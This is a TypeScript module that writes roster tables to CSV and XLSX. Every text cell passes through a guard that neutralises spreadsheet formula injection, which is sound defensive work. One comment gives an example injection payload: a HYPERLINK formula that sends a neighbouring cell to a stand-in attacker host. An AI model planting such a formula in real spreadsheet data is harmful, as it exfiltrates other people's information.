import ExcelJS from "exceljs";

/**
 * Spreadsheet files (CSV, XLSX) from a table of cells. Pure (no database, no request): the roster
 * export builds its table, this writes it. Both writers pass every text cell through
 * `neutralizeFormula`, so no table can reach a file without it.
 */

/**
 * Spreadsheet formula injection (CSV injection, OWASP): a cell whose text begins with `=`, `+`,
 * `-` or `@` is read by Excel, LibreOffice and Google Sheets as a formula when the file is opened
 * (or when someone edits the cell and presses Enter), and a leading TAB or CR can smuggle one
 * past a naive check. Names, organizations and invoice references are typed by people outside
 * the center, so a trainee named `=HYPERLINK("http://evil.example?"&A1,"click")` could exfiltrate
 * a neighbouring cell. Prefixing such a cell with a single quote makes every spreadsheet treat it
 * as text (the quote is the spreadsheet's own "this is a literal" marker); the value stays
 * readable. Other cells are returned unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

export type SpreadsheetCell = string | number | null;

export type SpreadsheetTable = {
  header: string[];
  rows: SpreadsheetCell[][];
};

const safe = (value: SpreadsheetCell): SpreadsheetCell =>
  typeof value === "string" ? neutralizeFormula(value) : value;

/** RFC 4180: every field quoted, quotes doubled, CRLF between records. */
function csvField(value: SpreadsheetCell): string {
  const cell = safe(value);
  if (cell === null) return "";
  return `"${String(cell).replaceAll('"', '""')}"`;
}

/**
 * The table as CSV text, starting with a UTF-8 byte-order mark: without it Excel (Korean
 * Windows included) guesses the legacy code page and shows Hangul as mojibake.
 */
export function toCsv(table: SpreadsheetTable): string {
  const lines = [table.header, ...table.rows].map((cells) => cells.map(csvField).join(","));
  return `\uFEFF${lines.join("\r\n")}\r\n`;
}

/** The table as an XLSX workbook: a bold, frozen header row with filters, readable widths. */
export async function toXlsx(table: SpreadsheetTable, sheetName: string): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.creator = "Fast Trak Enroll";
  workbook.created = new Date();
  // Sheet names: at most 31 characters, none of : \ / ? * [ ].
  const sheet = workbook.addWorksheet(sheetName.replace(/[:\\/?*[\]]/g, " ").slice(0, 31), {
    views: [{ state: "frozen", ySplit: 1 }],
  });
  // Plain values only: exceljs writes strings as text cells and numbers as numbers, never formulas.
  sheet.addRow(table.header.map(safe));
  for (const row of table.rows) sheet.addRow(row.map(safe));
  sheet.getRow(1).font = { bold: true };
  sheet.autoFilter = { from: { row: 1, column: 1 }, to: { row: 1, column: table.header.length } };
  sheet.columns.forEach((column, index) => {
    const longest = Math.max(
      ...[table.header, ...table.rows].map((cells) => String(cells[index] ?? "").length),
    );
    column.width = Math.min(Math.max(longest + 2, 10), 48);
  });
  return Buffer.from(await workbook.xlsx.writeBuffer());
}
